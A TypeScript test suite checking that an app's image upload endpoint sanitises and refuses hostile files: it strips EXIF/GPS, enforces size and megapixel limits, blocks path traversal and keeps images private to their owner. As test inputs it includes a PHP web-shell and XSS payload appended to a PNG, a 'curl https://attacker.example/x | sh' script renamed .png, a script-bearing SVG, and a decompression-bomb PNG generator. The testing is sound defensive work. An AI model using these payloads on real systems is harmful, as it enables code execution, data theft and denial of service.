import fs from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import { UPLOAD_MAX_BYTES } from '@pipwise/shared';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, createUserWithSession, DIALECTS, envelope, type TestApp } from './helper.js';

/**
 * Private uploads (issue 8 "Uploads"): type judged by content, size and pixel limits,
 * re-encoding that drops metadata and trailing bytes, and fetches only by the owner.
 */

const URL_PATTERN = /^\/api\/common\/image\/[a-f0-9]{32}\.(jpg|png|webp)$/;

/** A multipart body with one file part (and its headers), as a browser sends it. */
function multipart(file: Buffer, o: { filename?: string; type?: string; field?: string } = {}) {
  const boundary = '----pipwise-upload-test';
  const head = [
    `--${boundary}`,
    `Content-Disposition: form-data; name="${o.field ?? 'file'}"; filename="${o.filename ?? 'photo.jpg'}"`,
    `Content-Type: ${o.type ?? 'image/jpeg'}`,
    '',
    '',
  ].join('\r\n');
  return {
    payload: Buffer.concat([Buffer.from(head), file, Buffer.from(`\r\n--${boundary}--\r\n`)]),
    contentType: `multipart/form-data; boundary=${boundary}`,
  };
}

/** A PNG chunk with its CRC. */
function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body) >>> 0);
  return Buffer.concat([length, body, crc]);
}

/**
 * A real, complete 20,000 × 20,000 grey PNG (400 megapixels): all-zero rows deflate to
 * about 400 KB — a decompression bomb that would take 400 MB to decode.
 */
async function hugePng(side = 20_000): Promise<Buffer> {
  const deflate = zlib.createDeflate({ level: 9 });
  const parts: Buffer[] = [];
  deflate.on('data', (c: Buffer) => parts.push(c));
  const ended = new Promise((resolve) => deflate.on('end', resolve));
  const row = Buffer.alloc(side + 1); // filter byte 0, then one byte per grey pixel
  for (let y = 0; y < side; y++) deflate.write(row);
  deflate.end();
  await ended;
  const header = Buffer.alloc(13);
  header.writeUInt32BE(side, 0);
  header.writeUInt32BE(side, 4);
  header[8] = 8; // bit depth
  header[9] = 0; // greyscale
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', header),
    pngChunk('IDAT', Buffer.concat(parts)),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** Whether an EXIF block ("Exif\0\0" + TIFF) has a GPS directory (tag 0x8825) in IFD0. */
function hasGpsDirectory(exif: Buffer): boolean {
  const tiff = exif.subarray(6);
  const little = tiff.toString('ascii', 0, 2) === 'II';
  const u16 = (at: number) => (little ? tiff.readUInt16LE(at) : tiff.readUInt16BE(at));
  const u32 = (at: number) => (little ? tiff.readUInt32LE(at) : tiff.readUInt32BE(at));
  const ifd0 = u32(4);
  const entries = u16(ifd0);
  for (let i = 0; i < entries; i++) if (u16(ifd0 + 2 + i * 12) === 0x8825) return true;
  return false;
}

/** Built once for both databases (it takes about a second). */
let bomb: Promise<Buffer> | undefined;
const hugePngOnce = () => (bomb ??= hugePng());

const image = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#2a6f97' } });

describe.each(DIALECTS)('private image uploads (%s)', (dialect) => {
  let t: TestApp;
  let dataDir: string;
  let owner: { userId: number; token: string };
  let other: { userId: number; token: string };
  let jpeg: Buffer;

  beforeAll(async () => {
    dataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'pipwise-uploads-test-'));
    t = await createTestApp(dialect, { config: { DATA_DIR: dataDir } });
    owner = await createUserWithSession(t.services);
    other = await createUserWithSession(t.services);
    jpeg = await image(64, 48).jpeg().toBuffer();
  });
  afterAll(async () => {
    await t.close();
    fs.rmSync(dataDir, { recursive: true, force: true });
  });

  async function upload(
    file: Buffer,
    o: { token?: string; filename?: string; type?: string; field?: string } = {},
  ) {
    const body = multipart(file, o);
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/common/image_upload',
      headers: {
        lang: 'en',
        'content-type': body.contentType,
        ...(o.token === '' ? {} : { authorization: o.token ?? owner.token }),
      },
      payload: body.payload,
    });
    return { res, body: envelope(res) };
  }

  const fetchImage = (url: string, token?: string) =>
    t.app.inject({ method: 'GET', url, headers: { lang: 'en', ...(token ? { authorization: token } : {}) } });

  const storedPath = (url: string) => path.join(dataDir, 'uploads', url.split('/').pop()!);
  const uploadRows = async () =>
    Number(
      (
        await t.services.core.db
          .selectFrom('uploads')
          .select((eb) => eb.fn.countAll<number | string>().as('n'))
          .executeTakeFirstOrThrow()
      ).n,
    );
  /** Nothing half-written is left behind by a refused upload. */
  const leftovers = () => {
    const incoming = path.join(dataDir, 'uploads', 'incoming');
    return fs.existsSync(incoming) ? fs.readdirSync(incoming) : [];
  };

  it('stores a JPEG under a random name and serves it to its owner only, privately', async () => {
    const { body } = await upload(jpeg);
    expect(body.code).toBe(1);
    expect(body.data.url).toMatch(URL_PATTERN);
    expect(body.data.url.endsWith('.jpg')).toBe(true);

    const row = await t.services.core.db
      .selectFrom('uploads')
      .selectAll()
      .where('name', '=', body.data.url.split('/').pop())
      .executeTakeFirstOrThrow();
    expect(Number(row.user_id)).toBe(owner.userId);
    expect(row).toMatchObject({ mime: 'image/jpeg', width: 64, height: 48 });
    expect(Number(row.bytes)).toBe(fs.statSync(storedPath(body.data.url)).size);

    const res = await fetchImage(body.data.url, owner.token);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('image/jpeg');
    expect(res.headers['cache-control']).toBe('private');
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect((await sharp(res.rawPayload).metadata()).format).toBe('jpeg');

    // Another user, nobody, a guessed name, a malformed name: the same 404 envelope.
    const notFound = { code: 1004, msg: 'Not found', data: null };
    for (const [url, token] of [
      [body.data.url, other.token],
      [body.data.url, undefined],
      [`/api/common/image/${'0'.repeat(32)}.jpg`, owner.token],
      ['/api/common/image/..%2F..%2Fpipwise.db', owner.token],
      [body.data.url.replace('.jpg', '.png'), owner.token],
    ] as const) {
      const refused = await fetchImage(url, token);
      expect(refused.statusCode, url).toBe(404);
      expect(envelope(refused), url).toEqual(notFound);
    }
  });

  it('drops GPS and every other EXIF field, and turns the image upright', async () => {
    const withGps = await image(40, 20)
      .withExif({
        IFD0: { Make: 'PipwiseCam' },
        IFD3: {
          GPSLatitudeRef: 'N',
          GPSLatitude: '51/1 30/1 1234/100',
          GPSLongitudeRef: 'W',
          GPSLongitude: '0/1 7/1 3900/100',
        },
      })
      .withMetadata({ orientation: 6 })
      .jpeg()
      .toBuffer();
    const before = await sharp(withGps).metadata();
    expect(before.exif && hasGpsDirectory(before.exif)).toBe(true);
    expect(before.orientation).toBe(6);

    const { body } = await upload(withGps);
    expect(body.code).toBe(1);
    const stored = fs.readFileSync(storedPath(body.data.url));
    const after = await sharp(stored).metadata();
    expect(after.exif).toBeUndefined();
    expect(after.orientation).toBeUndefined();
    // Rotated by the orientation tag: 40 × 20 stored as 20 × 40.
    expect([after.width, after.height]).toEqual([20, 40]);
    expect(stored.includes(Buffer.from('PipwiseCam'))).toBe(false);
  });

  it('keeps PNG and WebP in their own format', async () => {
    const png = await upload(await image(10, 10).png().toBuffer(), { filename: 'a.png', type: 'image/png' });
    expect(png.body.data.url.endsWith('.png')).toBe(true);
    expect((await sharp(fs.readFileSync(storedPath(png.body.data.url))).metadata()).format).toBe('png');
    const webp = await upload(await image(10, 10).webp().toBuffer(), {
      filename: 'a.webp',
      type: 'image/webp',
    });
    expect(webp.body.data.url.endsWith('.webp')).toBe(true);
    expect((await fetchImage(webp.body.data.url, owner.token)).headers['content-type']).toBe('image/webp');
  });

  it('judges by content: a JPEG named .png and sent as image/png is stored as a JPEG', async () => {
    const { body } = await upload(jpeg, { filename: 'selfie.png', type: 'image/png' });
    expect(body.data.url.endsWith('.jpg')).toBe(true);
  });

  it('accepts a PNG with a script appended only as a re-encoded image without the script', async () => {
    const script = Buffer.from('<?php system($_GET["c"]); ?><script>alert(document.cookie)</script>');
    const png = await image(16, 16).png().toBuffer();
    const { body } = await upload(Buffer.concat([png, script]), { filename: 'x.png', type: 'image/png' });
    expect(body.code).toBe(1);
    const stored = fs.readFileSync(storedPath(body.data.url));
    expect(stored.includes(Buffer.from('<?php'))).toBe(false);
    expect(stored.includes(Buffer.from('<script>'))).toBe(false);
    expect((await sharp(stored).metadata()).format).toBe('png');
  });

  it('refuses a script renamed .png, an SVG, a GIF and a broken JPEG, leaving nothing behind', async () => {
    const rowsBefore = await uploadRows();
    const filesBefore = fs.readdirSync(path.join(dataDir, 'uploads')).length;
    const typeRefusal = {
      code: 1001,
      msg: 'Only JPEG, PNG or WebP images can be uploaded',
      data: { field: 'file' },
    };
    const script = Buffer.from('#!/bin/sh\ncurl https://attacker.example/x | sh\n');
    expect((await upload(script, { filename: 'photo.png', type: 'image/png' })).body).toEqual(typeRefusal);
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>',
    );
    expect((await upload(svg, { filename: 'a.svg', type: 'image/svg+xml' })).body).toEqual(typeRefusal);
    // Even named and typed as a PNG.
    expect((await upload(svg, { filename: 'a.png', type: 'image/png' })).body).toEqual(typeRefusal);
    const gif = await image(10, 10).gif().toBuffer();
    expect((await upload(gif, { filename: 'a.gif', type: 'image/gif' })).body).toEqual(typeRefusal);

    // A JPEG's first bytes followed by garbage: the type matches, the image does not decode.
    const broken = Buffer.concat([jpeg.subarray(0, 200), Buffer.alloc(500, 0x41)]);
    expect((await upload(broken)).body).toEqual({
      code: 1001,
      msg: 'This image could not be read, please choose another one',
      data: { field: 'file' },
    });

    expect(await uploadRows()).toBe(rowsBefore);
    expect(fs.readdirSync(path.join(dataDir, 'uploads')).length).toBe(filesBefore);
    expect(leftovers()).toEqual([]);
  });

  it('refuses a 20,000 × 20,000 image from its header, without decoding it', async () => {
    const huge = await hugePngOnce();
    expect(huge.length).toBeLessThan(1_000_000);
    const started = Date.now();
    const { body } = await upload(huge, { filename: 'big.png', type: 'image/png' });
    expect(body).toEqual({
      code: 1001,
      msg: 'The image is too large: at most 40 megapixels',
      data: { field: 'file' },
    });
    // Decoding 400 megapixels would take seconds and 400 MB; reading a header does not.
    expect(Date.now() - started).toBeLessThan(5_000);
    expect(leftovers()).toEqual([]);
  });

  it('refuses a file over 10 MB while streaming it, and a larger declared body before reading it', async () => {
    const rowsBefore = await uploadRows();
    // Within the request limit (10 MB + framing) but one byte over the image limit.
    const justOver = Buffer.concat([jpeg, Buffer.alloc(UPLOAD_MAX_BYTES + 1 - jpeg.length, 0x20)]);
    const streamed = await upload(justOver);
    expect(streamed.res.statusCode).toBe(413);
    expect(streamed.body).toEqual({
      code: 1005,
      msg: 'The image must be at most 10 MB',
      data: { field: 'file' },
    });
    expect(streamed.res.headers.connection).toBe('close');

    // Content-Length says 12 MB: refused before a byte of the body is read.
    const declared = await upload(Buffer.alloc(12 * 1024 * 1024, 0x20));
    expect(declared.res.statusCode).toBe(413);
    expect(declared.body.code).toBe(1005);

    // Exactly 10 MB is allowed through to the checks (and refused there: it is no image).
    const atLimit = await upload(Buffer.alloc(UPLOAD_MAX_BYTES, 0x20), {
      filename: 'x.png',
      type: 'image/png',
    });
    expect(atLimit.body.msg).toBe('Only JPEG, PNG or WebP images can be uploaded');

    expect(await uploadRows()).toBe(rowsBefore);
    expect(leftovers()).toEqual([]);
  });

  it('stops reading a body without Content-Length once the file passes 10 MB', async () => {
    await t.app.listen({ port: 0, host: '127.0.0.1' });
    const { port } = t.app.server.address() as AddressInfo;
    const boundary = '----pipwise-chunked';
    const MB = Buffer.alloc(1024 * 1024, 0x20);
    const TOTAL_MB = 40;
    let sentMb = 0;
    const answer = await new Promise<{ status: number; body: string }>((resolve, reject) => {
      const req = http.request({
        host: '127.0.0.1',
        port,
        method: 'POST',
        path: '/api/common/image_upload',
        headers: {
          lang: 'en',
          authorization: owner.token,
          'content-type': `multipart/form-data; boundary=${boundary}`,
          'transfer-encoding': 'chunked',
        },
      });
      req.on('response', (res) => {
        let body = '';
        res.on('data', (c: Buffer) => (body += c.toString()));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
      });
      // Once the server has answered and closed, further writes fail: that is the point.
      req.on('error', (err) => (sentMb < TOTAL_MB ? undefined : reject(err)));
      void (async () => {
        req.write(
          `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.jpg"\r\n` +
            'Content-Type: image/jpeg\r\n\r\n',
        );
        req.write(jpeg);
        for (; sentMb < TOTAL_MB && !req.destroyed; sentMb++) {
          if (!req.write(MB)) await new Promise((r) => req.once('drain', r).once('close', r));
        }
        if (!req.destroyed) req.end(`\r\n--${boundary}--\r\n`);
      })();
    });
    expect(answer.status).toBe(413);
    expect(JSON.parse(answer.body)).toEqual({
      code: 1005,
      msg: 'The image must be at most 10 MB',
      data: { field: 'file' },
    });
    // The answer came while the client was still sending: the rest was never read.
    expect(sentMb).toBeLessThan(30);
    expect(leftovers()).toEqual([]);
  });

  it('wants a multipart body with a `file` part', async () => {
    const json = await t.app.inject({
      method: 'POST',
      url: '/api/common/image_upload',
      headers: { lang: 'en', authorization: owner.token, 'content-type': 'application/json' },
      payload: '{"file":"data:image/png;base64,AAAA"}',
    });
    expect(envelope(json)).toEqual({ code: 1001, msg: 'file is required', data: { field: 'file' } });
    expect((await upload(jpeg, { field: 'image' })).body).toEqual({
      code: 1001,
      msg: 'file is required',
      data: { field: 'file' },
    });
  });

  it('is for logged-in real users: nobody gets 999, a demo user 2003', async () => {
    expect((await upload(jpeg, { token: '' })).body.code).toBe(999);
    const demo = await createUserWithSession(t.services, { is_demo: 1 });
    expect((await upload(jpeg, { token: demo.token })).body).toEqual({
      code: 2003,
      msg: 'Please register or log in to a real account',
      data: null,
    });
  });
});
